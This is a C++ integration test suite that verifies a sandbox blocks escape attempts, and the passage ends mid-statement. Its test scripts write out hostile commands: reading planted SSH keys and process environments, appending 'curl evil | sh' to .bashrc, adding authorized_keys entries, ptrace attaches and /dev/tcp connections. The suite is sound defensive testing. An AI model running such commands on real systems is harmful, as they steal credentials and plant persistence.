// The escape battery: each test makes one real attempt to get out of a real sandbox (started by
// the real sandbench-cli) and fails if the attempt works. Where a test could pass for a dull
// reason (the command never ran, the probe never reached the kernel), it also proves the
// opposite case: the same attempt succeeding where it is allowed.
#include "IntegrationSupport.h"
#include "sandbox/ResourceLimits.h"

#include <chrono>
#include <cstring>
#include <fcntl.h>
#include <future>
#include <pwd.h>
#include <sched.h>
#include <sys/stat.h>
#include <thread>
#include <unistd.h>

namespace fs = std::filesystem;
using sbit::quote;
using sbit::RunSpec;
using sbit::withEnv;
using sbit::withOptions;

namespace {

using sbit::contains;
using sbit::dump;

class Escape : public ::testing::Test {
  protected:
    sbit::Sandbench sb;
};

std::string dump(const std::map<std::string, std::string>& results)
{
    std::string out;
    for (const auto& [k, v] : results)
        out += k + " " + v + "\n";
    return out;
}

// Every named probe must answer exactly as expected inside the sandbox.
void expectProbes(const sbit::Sandbench& sb, const std::map<std::string, std::string>& expected,
                  const RunSpec& spec = {})
{
    std::vector<std::string> names;
    for (const auto& [name, _] : expected)
        names.push_back(name);
    auto results = sb.probe(names, spec);
    ASSERT_EQ(results.count("(run)"), 0u) << "the probe did not run: " << results["(run)"];
    for (const auto& [name, want] : expected)
        EXPECT_EQ(results[name], want) << "probe " << name << " inside the sandbox\n"
                                       << dump(results);
}

// The probe run directly on the host, for the answer the kernel gives without the filter.
std::map<std::string, std::string> hostProbe(const std::vector<std::string>& names)
{
    std::vector<std::string> argv = {sbtest::trySyscallPath()};
    argv.insert(argv.end(), names.begin(), names.end());
    auto r = sbtest::run(argv);
    std::map<std::string, std::string> out;
    for (const auto& line : sbit::lines(r.out))
        out[line.substr(0, line.find(' '))] = line.substr(line.find(' ') + 1);
    return out;
}

// A path outside the test's temp folder, removed on destruction.
struct PlantedFile {
    explicit PlantedFile(fs::path p, const std::string& content) : path(std::move(p))
    {
        sbtest::writeFile(path, content);
    }
    ~PlantedFile()
    {
        std::error_code ec;
        fs::remove(path, ec);
    }
    fs::path path;
};

fs::path realHomeOfCaller()
{
    const passwd* pw = ::getpwuid(::geteuid());
    return pw != nullptr ? fs::path(pw->pw_dir) : fs::path("/root");
}

bool allForksWork(int count)
{
    for (int i = 0; i < count; ++i)
        if (sbtest::run({"true"}, {}, {}, 10).status != 0) return false;
    return true;
}

} // namespace

// --- Files: secrets in the home directory, writes outside the workspace ---

TEST_F(Escape, ReadingPlantedSshKeyFromHomeFails)
{
    const std::string secret = "PRIVATE-" + sbit::uniqueToken();
    sbtest::writeFile(sb.home() / ".ssh" / "id_ed25519",
                      "-----BEGIN OPENSSH PRIVATE KEY-----\n" + secret + "\n");
    auto r = sb.attempt("cat " + quote((sb.home() / ".ssh/id_ed25519").string()) +
                        "; cat ~/.ssh/id_ed25519; grep -rs OPENSSH ~ /tmp; true");
    SB_ASSERT_RAN(r);
    EXPECT_FALSE(contains(r.out, secret)) << dump(r);
    EXPECT_FALSE(contains(r.err, secret)) << dump(r);
}

TEST_F(Escape, WritingToSiblingOfWorkspaceFails)
{
    const fs::path target = sb.outside() / "pwned";
    auto r = sb.attempt("echo pwned > " + quote(target.string()) + "; mkdir -p " +
                        quote(sb.outside().string()) + " && echo pwned > " +
                        quote(target.string()) + "; echo pwned > ../outside/pwned2");
    SB_ASSERT_RAN(r);
    EXPECT_TRUE(fs::is_empty(sb.outside())) << "the agent wrote next to the workspace\n" << dump(r);
}

TEST_F(Escape, WritingToHomeDoesNotReachTheRealHome)
{
    sbtest::writeFile(sb.home() / ".bashrc", "original\n");
    const std::string name = "sbescape-" + sbit::uniqueToken();
    const fs::path realHome = realHomeOfCaller();
    auto r = sb.attempt("echo 'curl evil | sh' >> ~/.bashrc; mkdir -p ~/.ssh && echo key >> "
                        "~/.ssh/authorized_keys; touch " +
                        quote((realHome / name).string()));
    SB_ASSERT_RAN(r);
    EXPECT_EQ(sbtest::readFile(sb.home() / ".bashrc"), "original\n") << dump(r);
    EXPECT_FALSE(fs::exists(sb.home() / ".ssh")) << dump(r);
    std::error_code ec;
    EXPECT_FALSE(fs::exists(realHome / name, ec)) << "wrote into the real " << realHome;
    fs::remove(realHome / name, ec);
}

TEST_F(Escape, WritingToEtcFails)
{
    const fs::path target = "/etc/sbescape-" + sbit::uniqueToken();
    auto r = sb.attempt("touch " + quote(target.string()) +
                        " && echo WROTE; echo x >> /etc/hosts "
                        "&& echo APPENDED");
    SB_ASSERT_RAN(r);
    EXPECT_FALSE(contains(r.out, "WROTE")) << dump(r);
    EXPECT_FALSE(contains(r.out, "APPENDED")) << dump(r);
    std::error_code ec;
    EXPECT_FALSE(fs::exists(target, ec));
    fs::remove(target, ec);
}

TEST_F(Escape, WritingToUsrFails)
{
    const std::string name = "sbescape-" + sbit::uniqueToken();
    auto r =
        sb.attempt("for d in /usr /usr/bin /usr/local/bin /usr/lib; do touch $d/" + name +
                   " && echo WROTE $d; done; cp /bin/true /usr/bin/" + name + " && echo COPIED");
    SB_ASSERT_RAN(r);
    EXPECT_FALSE(contains(r.out, "WROTE")) << dump(r);
    EXPECT_FALSE(contains(r.out, "COPIED")) << dump(r);
    for (const char* dir : {"/usr", "/usr/bin", "/usr/local/bin", "/usr/lib"}) {
        std::error_code ec;
        EXPECT_FALSE(fs::exists(fs::path(dir) / name, ec)) << dir;
        fs::remove(fs::path(dir) / name, ec);
    }
}

TEST_F(Escape, WorkspaceChangesStayOutOfTheRealProjectUntilApplied)
{
    sbtest::writeFile(sb.workspace() / "edit.txt", "before\n");
    sbtest::writeFile(sb.workspace() / "gone.txt", "keep me\n");
    auto r = sb.run("held", {"bash", "-c",
                             "echo after > edit.txt && rm gone.txt && echo new > new.txt && "
                             "mkdir sub && echo y > sub/y"});
    ASSERT_EQ(r.status, 0) << dump(r);
    EXPECT_EQ(sbtest::readFile(sb.workspace() / "edit.txt"), "before\n");
    EXPECT_TRUE(fs::exists(sb.workspace() / "gone.txt"));
    EXPECT_FALSE(fs::exists(sb.workspace() / "new.txt"));
    EXPECT_FALSE(fs::exists(sb.workspace() / "sub"));

    auto changes = sb.cli({"changes", "held"});
    EXPECT_TRUE(contains(changes.out, "M edit.txt")) << changes.out;
    EXPECT_TRUE(contains(changes.out, "D gone.txt")) << changes.out;
    EXPECT_TRUE(contains(changes.out, "A new.txt")) << changes.out;

    // Apply is the one way in, and it works: the checks above could have failed.
    auto applied = sb.cli({"apply", "held"});
    ASSERT_EQ(applied.status, 0) << dump(applied);
    EXPECT_EQ(sbtest::readFile(sb.workspace() / "edit.txt"), "after\n");
    EXPECT_FALSE(fs::exists(sb.workspace() / "gone.txt"));
    EXPECT_EQ(sbtest::readFile(sb.workspace() / "sub/y"), "y\n");
}

TEST_F(Escape, PlantedHomeFilesInvisibleUnlessExposed)
{
    sbtest::writeFile(sb.home() / "notes" / "plan.txt", "the plan\n");
    auto hidden = sb.attempt("cat ~/notes/plan.txt; ls -A ~ | sed 's/^/home: /'");
    SB_ASSERT_RAN(hidden);
    EXPECT_FALSE(contains(hidden.out, "the plan")) << dump(hidden);
    EXPECT_FALSE(contains(hidden.out, "home: notes")) << dump(hidden);

    // Exposed read-only, the same file is visible (so the check above can fail) but stays
    // unwritable.
    auto policy = sb.writePolicy(
        R"({"version": 1, "filesystem": {"expose": [{"path": "~/notes", "mode": "ro"}]}})");
    auto exposed =
        sb.attempt("cat ~/notes/plan.txt; echo evil >> ~/notes/plan.txt && echo APPENDED; touch "
                   "~/notes/new && echo CREATED",
                   withOptions({"--policy", policy.string()}));
    SB_ASSERT_RAN(exposed);
    EXPECT_TRUE(contains(exposed.out, "the plan")) << dump(exposed);
    EXPECT_FALSE(contains(exposed.out, "APPENDED")) << dump(exposed);
    EXPECT_FALSE(contains(exposed.out, "CREATED")) << dump(exposed);
    EXPECT_EQ(sbtest::readFile(sb.home() / "notes/plan.txt"), "the plan\n");
    EXPECT_FALSE(fs::exists(sb.home() / "notes/new"));
}

TEST_F(Escape, AnExposedFileIsMountedAloneWithItsFoldersMadeAndStaysReadOnly)
{
    // A single file deep in folders the sandbox's empty home does not have: its mount point
    // and the folders above it are made, and nothing else of those folders shows.
    sbtest::writeFile(sb.home() / ".config/tool/settings.json", "{\"theme\": \"dark\"}\n");
    sbtest::writeFile(sb.home() / ".config/tool/token", "secret-token\n");
    auto policy = sb.writePolicy(R"({"version": 1, "filesystem": {"expose": [)"
                                 R"({"path": "~/.config/tool/settings.json", "mode": "ro"}]}})");
    auto r = sb.attempt("cat ~/.config/tool/settings.json; ls -A ~/.config/tool | sed "
                        "'s/^/listed: /'; echo x >> ~/.config/tool/settings.json && echo APPENDED",
                        withOptions({"--policy", policy.string()}));
    SB_ASSERT_RAN(r);
    EXPECT_TRUE(contains(r.out, "\"theme\": \"dark\"")) << dump(r);
    EXPECT_TRUE(contains(r.out, "listed: settings.json\n")) << dump(r);
    EXPECT_FALSE(contains(r.out, "listed: token")) << dump(r);
    EXPECT_FALSE(contains(r.out, "APPENDED")) << dump(r);
    EXPECT_EQ(sbtest::readFile(sb.home() / ".config/tool/settings.json"),
              "{\"theme\": \"dark\"}\n");
}

TEST_F(Escape, OtherHomesAndRootAreInvisible)
{
    // Paths that exist on this host (checked here, so the test knows what it looks for).
    std::vector<fs::path> present;
    for (const char* p :
         {"/root/.bashrc", "/root/.profile", "/home/sbtest/.bashrc", "/home/sbtest/.profile"}) {
        std::error_code ec;
        if (fs::exists(p, ec)) present.push_back(p);
    }
    present.push_back(realHomeOfCaller());
    std::string script;
    for (const auto& p : present)
        script += "test -e " + quote(p.string()) + " && echo VISIBLE " + quote(p.string()) + "\n";
    script += "ls -A /root /home 2>/dev/null | sed 's/^/listed: /'\n";
    auto r = sb.attempt(script);
    SB_ASSERT_RAN(r);
    EXPECT_FALSE(contains(r.out, "VISIBLE")) << dump(r);
    EXPECT_FALSE(contains(r.out, "listed: ")) << dump(r);
}

TEST_F(Escape, HostTmpFilesInvisible)
{
    PlantedFile planted("/tmp/sbplanted-" + sbit::uniqueToken(), "host tmp secret\n");
    auto r = sb.attempt("cat " + quote(planted.path.string()) + "; ls -A /tmp | sed 's/^/tmp: /'");
    SB_ASSERT_RAN(r);
    EXPECT_FALSE(contains(r.out, "host tmp secret")) << dump(r);
    EXPECT_FALSE(contains(r.out, planted.path.filename().string())) << dump(r);
}

TEST_F(Escape, HostBlockDevicesAndKernelMemoryAbsentFromDev)
{
    auto r = sb.attempt("ls -A /dev | sed 's/^/dev: /'");
    SB_ASSERT_RAN(r);
    EXPECT_TRUE(contains(r.out, "dev: null\n")) << dump(r); // the listing itself worked
    for (const char* name : {"vda", "sda", "nvme0n1", "mem", "kmem", "kmsg", "port", "loop0",
                             "loop-control", "fuse", "net"})
        EXPECT_FALSE(contains(r.out, std::string("dev: ") + name + "\n")) << name << "\n"
                                                                          << dump(r);
}

// --- Terminal injection ---

TEST_F(Escape, TiocstiDeniedIncludingHighBitsSpelling)
{
    expectProbes(sb, {{"tiocsti", "EPERM"}, {"tiocsti_high", "EPERM"}});
}

TEST_F(Escape, TiocstiOnTheSandboxTerminalDenied)
{
    // Under a real terminal the command's fd 0 is the sandbox's pty: the ioctl would reach a tty.
    fs::path probe = sb.installProbe();
    sbit::PtyProgram cli({sbtest::cliPath(), "run", "--workspace", sb.workspace().string(),
                          "--session-id", "pty", "--", probe.string(), "tiocsti", "tiocsti_high",
                          "tioclinux"},
                         sb.env());
    EXPECT_TRUE(cli.waitFor("tioclinux ", std::chrono::seconds(30))) << cli.output();
    EXPECT_EQ(cli.wait(std::chrono::seconds(30)), 0) << cli.output();
    EXPECT_TRUE(contains(cli.output(), "tiocsti EPERM")) << cli.output();
    EXPECT_TRUE(contains(cli.output(), "tiocsti_high EPERM")) << cli.output();
    EXPECT_TRUE(contains(cli.output(), "tioclinux EPERM")) << cli.output();
}

TEST_F(Escape, TioclinuxDenied)
{
    expectProbes(sb, {{"tioclinux", "EPERM"}});
}

// --- Syscalls: kernel attack surface ---

TEST_F(Escape, IoUringDenied)
{
    expectProbes(sb, {{"io_uring_setup", "EPERM"}});
}

TEST_F(Escape, Clone3AnswersEnosysAndThreadsStillWork)
{
    // On the host the kernel looks at the call (EFAULT/EINVAL); inside, the filter answers.
    EXPECT_NE(hostProbe({"clone3"})["clone3"], "ENOSYS");
    expectProbes(sb,
                 {{"clone3", "ENOSYS"}, {"thread_ok", "0"}, {"fork_ok", "0"}, {"spawn_ok", "0"}});
}

// The supervisor reads each exec's program and arguments before it answers: a bad pointer gets
// the kernel's own answer, and strings that cross a page boundary are read whole (a rule on
// them matches), never cut short at the page.
TEST_F(Escape, ExecArgumentsAreReadWholeOrTheExecFails)
{
    auto host = hostProbe({"exec_argv_bad", "exec_argv_page_cross"});
    EXPECT_EQ(host["exec_argv_bad"], "EFAULT");
    EXPECT_EQ(host["exec_argv_page_cross"], "0");
    auto policy = sb.writePolicy(R"({"version": 1, "commands": {"default": "allow", "rules": [
        {"action": "deny", "match": "true page-crossing-word"}]}})");
    expectProbes(sb, {{"exec_argv_bad", "EFAULT"}, {"exec_argv_page_cross", "EPERM"}},
                 withOptions({"--policy", policy.string()}));
}

TEST_F(Escape, NewUserNamespaceViaUnshareCommandDenied)
{
    auto r = sb.attempt("unshare -U id && echo UNSHARED; unshare -Ur id -u && echo ROOTMAPPED");
    SB_ASSERT_RAN(r);
    EXPECT_FALSE(contains(r.out, "UNSHARED")) << dump(r);
    EXPECT_FALSE(contains(r.out, "ROOTMAPPED")) << dump(r);
}

TEST_F(Escape, NewUserNamespaceViaSyscallsDenied)
{
    expectProbes(sb,
                 {{"clone_newuser", "EPERM"}, {"unshare_newuser", "EPERM"}, {"setns", "EPERM"}});
}

TEST_F(Escape, MountDenied)
{
    auto r = sb.attempt("mkdir -p /tmp/m && mount -t tmpfs none /tmp/m && echo MOUNTED; mount "
                        "--bind / /tmp/m && echo BOUND; grep -c ' /tmp/m ' /proc/self/mountinfo");
    SB_ASSERT_RAN(r);
    EXPECT_FALSE(contains(r.out, "MOUNTED")) << dump(r);
    EXPECT_FALSE(contains(r.out, "BOUND")) << dump(r);
    expectProbes(sb, {{"mount", "EPERM"}, {"umount", "EPERM"}, {"pivot_root", "EPERM"}});
}

TEST_F(Escape, NewMountApiDenied)
{
    EXPECT_NE(hostProbe({"fsopen"})["fsopen"], "ENOSYS"); // the kernel has it
    std::map<std::string, std::string> expected = {{"fsopen", "ENOSYS"},
                                                   {"open_tree", "ENOSYS"},
                                                   {"move_mount", "ENOSYS"},
                                                   {"mount_setattr", "ENOSYS"}};
#if defined(__x86_64__)
    expected["open_tree_attr"] = "ENOSYS";
#endif
    expectProbes(sb, expected);
}

TEST_F(Escape, PtraceOfSiblingProcessDenied)
{
    // The target is a process of the same user in the same sandbox: without the filter,
    // PTRACE_ATTACH to one's own child works (Yama scope 1 allows descendants).
    auto r = sb.attempt(R"(python3 - <<'EOF'
import ctypes, subprocess
libc = ctypes.CDLL(None, use_errno=True)
child = subprocess.Popen(["sleep", "30"])
for name, request in (("attach", 16), ("seize", 0x4206)):
    rc = libc.ptrace(request, child.pid, None, None)
    print(name, rc, ctypes.get_errno())
child.kill()
EOF
strace -f true >/dev/null 2>&1 && echo STRACED)");
    SB_ASSERT_RAN(r);
    EXPECT_TRUE(contains(r.out, "attach -1 1\n")) << dump(r); // EPERM
    EXPECT_TRUE(contains(r.out, "seize -1 1\n")) << dump(r);
    EXPECT_FALSE(contains(r.out, "STRACED")) << dump(r);
    expectProbes(sb, {{"ptrace", "EPERM"}, {"process_vm_readv", "EPERM"}});
}

TEST_F(Escape, KeyringsDenied)
{
    expectProbes(sb, {{"keyctl", "EPERM"}, {"add_key", "EPERM"}, {"request_key", "EPERM"}});
}

TEST_F(Escape, VsockSocketDenied)
{
    expectProbes(sb, {{"socket_vsock", "EAFNOSUPPORT"}});
}

TEST_F(Escape, PacketAndRawSocketsDenied)
{
    expectProbes(sb, {{"socket_packet", "EAFNOSUPPORT"},
                      {"socket_packet_high", "EAFNOSUPPORT"},
                      {"socket_inet_packet", "EPERM"},
                      {"socket_raw", "EPERM"}});
}

TEST_F(Escape, Int80SyscallKilled)
{
#if defined(__x86_64__)
    expectProbes(sb, {{"int80", "KILLED"}});
#else
    GTEST_SKIP() << "int 0x80 is an x86-64 concern";
#endif
}

TEST_F(Escape, X32SyscallKilled)
{
#if defined(__x86_64__)
    expectProbes(sb, {{"x32", "KILLED"}});
#else
    GTEST_SKIP() << "x32 is an x86-64 concern";
#endif
}

TEST_F(Escape, SethostnameDenied)
{
    char before[256] = {};
    ::gethostname(before, sizeof before - 1);
    auto r = sb.attempt("hostname evil && echo RENAMED; python3 -c 'import socket; "
                        "socket.sethostname(\"evil\")' 2>/dev/null && echo PYRENAMED; hostname");
    SB_ASSERT_RAN(r);
    EXPECT_FALSE(contains(r.out, "RENAMED")) << dump(r);
    EXPECT_TRUE(contains(r.out, "sandbench\n")) << dump(r);
    char after[256] = {};
    ::gethostname(after, sizeof after - 1);
    EXPECT_STREQ(before, after);
    expectProbes(sb, {{"sethostname", "EPERM"}});
}

TEST_F(Escape, ChrootDenied)
{
    auto r = sb.attempt("chroot / true && echo CHROOTED; /usr/sbin/chroot / true && echo CHROOTED");
    SB_ASSERT_RAN(r);
    EXPECT_FALSE(contains(r.out, "CHROOTED")) << dump(r);
    expectProbes(sb, {{"chroot", "EPERM"}});
}

TEST_F(Escape, BpfDenied)
{
    expectProbes(sb, {{"bpf", "EPERM"}});
}
TEST_F(Escape, UserfaultfdDenied)
{
    expectProbes(sb, {{"userfaultfd", "EPERM"}});
}
TEST_F(Escape, PerfEventOpenDenied)
{
    expectProbes(sb, {{"perf_event_open", "EPERM"}});
}

TEST_F(Escape, ProcSysNotWritable)
{
    auto r = sb.attempt("echo evil > /proc/sys/kernel/hostname && echo WROTE-HOSTNAME; echo 1 > "
                        "/proc/sys/vm/drop_caches && echo WROTE-VM; cat /proc/sys/kernel/hostname");
    SB_ASSERT_RAN(r);
    EXPECT_FALSE(contains(r.out, "WROTE")) << dump(r);
    EXPECT_TRUE(contains(r.out, "sandbench\n")) << dump(r); // readable, unchanged
}

// --- Network ---

TEST_F(Escape, HostLoopbackTcpUnreachableInModeNone)
{
    auto listener = sbit::HostListener::tcpLoopback();
    const std::string port = std::to_string(listener.port());
    const std::string script =
        "(exec 3<>/dev/tcp/127.0.0.1/" + port + ") 2>/dev/null && echo BASH-CONNECTED\n" +
        "python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", " + port +
        "), timeout=5); print(\"PY-CONNECTED\")' 2>/dev/null\n";
    auto r = sb.attempt(script, withOptions({"--network", "none"}));
    SB_ASSERT_RAN(r);
    EXPECT_FALSE(contains(r.out, "CONNECTED")) << dump(r);
    EXPECT_FALSE(listener.acceptPending()) << "a connection reached the host's listener";

    // The same attempt on the host's network reaches the listener: the test can fail.
    auto host = sb.attempt(script, withOptions({"--network", "host"}));
    SB_ASSERT_RAN(host);
    EXPECT_TRUE(contains(host.out, "BASH-CONNECTED")) << dump(host);
    EXPECT_TRUE(contains(host.out, "PY-CONNECTED")) << dump(host);
    EXPECT_TRUE(listener.acceptPending());
}

TEST_F(Escape, HostAbstractUnixSocketUnreachableInModeNone)
{
    const std::string name = "sandbench-it-" + sbit::uniqueToken();
    auto listener = sbit::HostListener::abstractUnix(name);
    const std::string script = "python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); "
                               "s.connect(\"\\0" +
                               name + "\"); print(\"CONNECTED\")' 2>&1 | tail -1";
    auto r = sb.attempt(script);
    SB_ASSERT_RAN(r);
    EXPECT_FALSE(contains(r.out, "CONNECTED\n")) << dump(r);
    EXPECT_FALSE(listener.acceptPending());

    auto host = sb.attempt(script, withOptions({"--network", "host"}));
    SB_ASSERT_RAN(host);
    EXPECT_TRUE(contains(host.out, "CONNECTED\n")) << "control: reachable on the host network\n"
                                                   << dump(host);
}

TEST_F(Escape, HostUnixSocketsUnreachable)
{
    // Path sockets of host processes: one in the project itself (a language server's, git's
    // fsmonitor daemon's) seen through the overlay, one beside it, one in the caller's runtime
    // dir; and the usual system sockets under /run, which must not even be mounted.
    std::vector<fs::path> paths = {sb.workspace() / "server.sock", sb.outside() / "agent.sock"};
    std::vector<sbit::HostListener> listeners;
    for (const auto& p : paths)
        listeners.push_back(sbit::HostListener::unixPath(p));
    std::string script = "for s in";
    for (const auto& p : paths)
        script += " " + quote(p.string());
    script += R"(; do python3 -c 'import socket, sys
s = socket.socket(socket.AF_UNIX)
s.connect(sys.argv[1])
print("CONNECTED", sys.argv[1])' "$s" 2>/dev/null; done
ls -A /run /var/run 2>/dev/null | sed 's/^/run: /')";
    auto r = sb.attempt(script);
    SB_ASSERT_RAN(r);
    EXPECT_FALSE(contains(r.out, "CONNECTED")) << dump(r);
    EXPECT_FALSE(contains(r.out, "run: ")) << dump(r);
    for (auto& l : listeners)
        EXPECT_FALSE(l.acceptPending());
}

TEST_F(Escape, ProjectSymlinkToAHomeSecretRevealsNothing)
{
    // The real project may hold a symlink into the home directory (an earlier apply, or the
    // user's own). Inside, it must resolve into the empty home, not to the secret.
    const std::string secret = "secret-" + sbit::uniqueToken();
    sbtest::writeFile(sb.home() / ".aws" / "credentials", secret + "\n");
    fs::create_symlink(sb.home() / ".aws" / "credentials", sb.workspace() / "creds");
    fs::create_directory_symlink(sb.home(), sb.workspace() / "homelink");
    auto r = sb.attempt("cat creds; cat homelink/.aws/credentials; ls -A homelink/");
    SB_ASSERT_RAN(r);
    EXPECT_FALSE(contains(r.out, secret)) << dump(r);
    EXPECT_FALSE(contains(r.out, ".aws")) << dump(r);
}

// --- Processes ---

TEST_F(Escape, HostProcessesInvisibleInProc)
{
    sbit::MarkerProcess marker;
    ASSERT_TRUE(marker.alive());
    // The marker is split in the script, so the script's own command line never matches it.
    const std::string head = marker.marker().substr(0, 8), tail = marker.marker().substr(8);
    auto r = sb.attempt(R"(python3 - <<'EOF'
import os, subprocess, time
m = ")" + head + R"(" + ")" +
                        tail + R"("
own = subprocess.Popen([m, "30"], executable="/bin/sleep")
for _ in range(200):  # exec sets up the new command line a moment after Popen returns
    if open("/proc/%d/cmdline" % own.pid, "rb").read().startswith(m.encode()):
        break
    time.sleep(0.01)
seen = []
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            if m.encode() in open("/proc/%s/cmdline" % pid, "rb").read():
                seen.append(int(pid))
        except OSError:
            pass
print("own-seen", own.pid in seen, own.pid, seen)
print("others", [p for p in seen if p != own.pid])
own.kill()
EOF)");
    SB_ASSERT_RAN(r);
    EXPECT_TRUE(contains(r.out, "own-seen True")) << "the search itself must work\n" << dump(r);
    EXPECT_TRUE(contains(r.out, "others []")) << "host process visible\n" << dump(r);
}

TEST_F(Escape, KillAllInsideSparesHostProcesses)
{
    sbit::MarkerProcess marker;
    ASSERT_TRUE(marker.alive());
    auto r = sb.attempt("sleep 30 & kill -9 -1; wait $!; echo inner-status $?; kill -9 " +
                        std::to_string(marker.pid()) + " 2>/dev/null && echo KILLED-BY-PID");
    SB_ASSERT_RAN(r);
    EXPECT_TRUE(contains(r.out, "inner-status 137")) << "kill -1 works inside\n" << dump(r);
    EXPECT_FALSE(contains(r.out, "KILLED-BY-PID")) << dump(r);
    EXPECT_TRUE(marker.alive()) << "the host's marker process died";
}

TEST_F(Escape, SandboxInitMemoryAndEnvironmentUnreadable)
{
    // Pid 1 inside is a fork of the CLI: its environment holds the caller's secrets and its
    // memory the supervisor's. It is visible in /proc; its insides must not be.
    const std::string token = sbit::uniqueToken();
    auto r = sb.attempt("cat /proc/1/environ; tr '\\0' '\\n' < /proc/1/cmdline | head -1 | sed "
                        "'s/^/init: /'; python3 -c 'open(\"/proc/1/mem\", \"rb\")' 2>/dev/null && "
                        "echo MEM-OPENED; ls /proc/1/fd /proc/1/root/ 2>/dev/null | sed "
                        "'s/^/fd: /'",
                        withEnv({{"GITHUB_TOKEN", "ghp_" + token}}));
    SB_ASSERT_RAN(r);
    EXPECT_TRUE(contains(r.out, "init: ")) << "pid 1 is visible\n" << dump(r);
    EXPECT_FALSE(contains(r.out, token)) << dump(r);
    EXPECT_FALSE(contains(r.out, "MEM-OPENED")) << dump(r);
    EXPECT_FALSE(contains(r.out, "fd: ")) << dump(r);
}

TEST_F(Escape, NoFileDescriptorsLeakBeyondStdio)
{
    // An fd without CLOEXEC in the test process: every child inherits it, unless the sandbox
    // closes it.
    // (Moved above 2: with no stdin, as in CI, open() would hand back fd 0.)
    int opened = ::open("/etc/hostname", O_RDONLY);
    int leaked = ::fcntl(opened, F_DUPFD, 10);
    ::close(opened);
    ASSERT_GE(leaked, 10);
    auto host = sbtest::run({"ls", "/proc/self/fd"});
    EXPECT_TRUE(contains("\n" + host.out, "\n" + std::to_string(leaked) + "\n"))
        << "control: the fd leaks into an ordinary child\n"
        << host.out;
    auto r = sb.run({"ls", "/proc/self/fd"});
    ::close(leaked);
    ASSERT_EQ(r.status, 0) << dump(r);
    // 0-2, and 3 for the directory ls itself opened.
    EXPECT_EQ(sbit::lines(r.out), (std::vector<std::string>{"0", "1", "2", "3"})) << dump(r);
}

TEST_F(Escape, CapabilitiesAllZero)
{
    auto r = sb.run({"grep", "^Cap", "/proc/self/status"});
    ASSERT_EQ(r.status, 0) << dump(r);
    for (const char* set : {"CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"})
        EXPECT_TRUE(contains(r.out, std::string(set) + ":\t0000000000000000\n")) << set << "\n"
                                                                                 << r.out;
}

TEST_F(Escape, NoNewPrivsAndSeccompSet)
{
    auto r = sb.run({"grep", "-E", "^(NoNewPrivs|Seccomp):", "/proc/self/status"});
    ASSERT_EQ(r.status, 0) << dump(r);
    EXPECT_TRUE(contains(r.out, "NoNewPrivs:\t1\n")) << r.out;
    EXPECT_TRUE(contains(r.out, "Seccomp:\t2\n")) << r.out;
}

TEST_F(Escape, SandboxRunsAsBatchWorkAndAnIdleCallerStaysIdle)
{
    // Field 41 of /proc/PID/stat is the scheduling policy: 0 normal, 3 batch, 5 idle. The
    // sandbox's processes are batch work (not a boundary, see Sandbox.cpp); one started under
    // the idle class keeps it, and the sandbox still starts.
    const std::string policyOf = "awk '{ print \"policy=\" $41 }' /proc/self/stat";
    auto host = sbtest::run({"sh", "-c", policyOf});
    ASSERT_TRUE(contains(host.out, "policy=0")) << "control: the test runs as normal work\n"
                                                << host.out;
    auto r = sb.attempt(policyOf + "; awk '{ print \"init=\" $41 }' /proc/1/stat");
    SB_ASSERT_RAN(r);
    EXPECT_TRUE(contains(r.out, "policy=3\n")) << dump(r);
    EXPECT_TRUE(contains(r.out, "init=3\n")) << dump(r);

    // From a thread of its own: the policy is a thread's, a fork inherits its thread's, and an
    // unprivileged thread cannot leave the idle class again.
    sbtest::RunResult idle;
    int setIdle = 0;
    std::thread([&] {
        sched_param none{};
        setIdle = ::sched_setscheduler(0, SCHED_IDLE, &none) == 0 ? 0 : errno;
        if (setIdle == 0) idle = sb.attempt(policyOf);
    }).join();
    ASSERT_EQ(setIdle, 0) << std::strerror(setIdle);
    SB_ASSERT_RAN(idle);
    EXPECT_TRUE(contains(idle.out, "policy=5\n")) << dump(idle);
}

TEST_F(Escape, SecretEnvironmentVariablesNotPassed)
{
    const std::string token = sbit::uniqueToken();
    const std::map<std::string, std::string> secrets = {
        {"GITHUB_TOKEN", "ghp_" + token},
        {"MY_API_TOKEN", "sk-" + token},
        {"SSH_AUTH_SOCK", "/tmp/ssh-" + token + "/agent.1"},
        {"AWS_SECRET_ACCESS_KEY", "aws" + token}};
    auto r = sb.run({"env"}, withEnv(secrets));
    ASSERT_EQ(r.status, 0) << dump(r);
    EXPECT_FALSE(contains(r.out, token)) << r.out;
    for (const auto& [name, _] : secrets)
        EXPECT_FALSE(contains(r.out, name + "=")) << name;

    // Named by a policy, a variable does pass: the check above can fail.
    auto policy = sb.writePolicy(R"({"version": 1, "env": {"pass": ["MY_API_TOKEN"]}})");
    auto passed = sb.run({"env"}, withEnv(secrets, {"--policy", policy.string()}));
    EXPECT_TRUE(contains(passed.out, "MY_API_TOKEN=sk-" + token)) << dump(passed);
    EXPECT_FALSE(contains(passed.out, "GITHUB_TOKEN")) << dump(passed);
}

// --- Privilege ---

TEST_F(Escape, SetuidRootBinariesGainNothing)
{
    // On the host, setuid-root passwd may show root's password status; in the sandbox it runs
    // with the caller's ids and is refused. su cannot switch either; setuid(0) fails.
    auto r = sb.attempt("id -u; passwd -S root && echo PASSWD-AS-ROOT; su -c 'id -u' root "
                        "</dev/null && echo SU-WORKED; python3 -c 'import os; os.setuid(0); "
                        "print(\"SETUID-WORKED\")' 2>/dev/null");
    SB_ASSERT_RAN(r);
    EXPECT_FALSE(contains(r.out, "PASSWD-AS-ROOT")) << dump(r);
    EXPECT_FALSE(contains(r.out, "SU-WORKED")) << dump(r);
    EXPECT_FALSE(contains(r.out, "SETUID-WORKED")) << dump(r);
    const std::string uid = std::to_string(sbit::runningAsRoot() ? 65534 : ::geteuid());
    EXPECT_TRUE(contains(r.out, uid + "\n")) << dump(r);
}

TEST_F(Escape, SetuidCopyInWorkspaceRunsUnprivileged)
{
    // As root this is a real setuid-root binary (the sandbox sees it idmapped, owned by its own
    // uid); as a user it is setuid to that user. Either way the euid inside must be the
    // sandbox's own, and the workspace mount must be nosuid.
    const fs::path copy = sb.workspace() / "suid-id";
    fs::copy_file("/usr/bin/id", copy);
    ASSERT_EQ(::chmod(copy.c_str(), 04755), 0);
    if (sbit::runningAsRoot()) {
        struct stat st {};
        ASSERT_EQ(::stat(copy.c_str(), &st), 0);
        ASSERT_EQ(st.st_uid, 0u);
        ASSERT_TRUE(st.st_mode & S_ISUID);
    }
    auto r = sb.attempt("./suid-id -u; ./suid-id -ru; grep -F ' " + sb.workspace().string() +
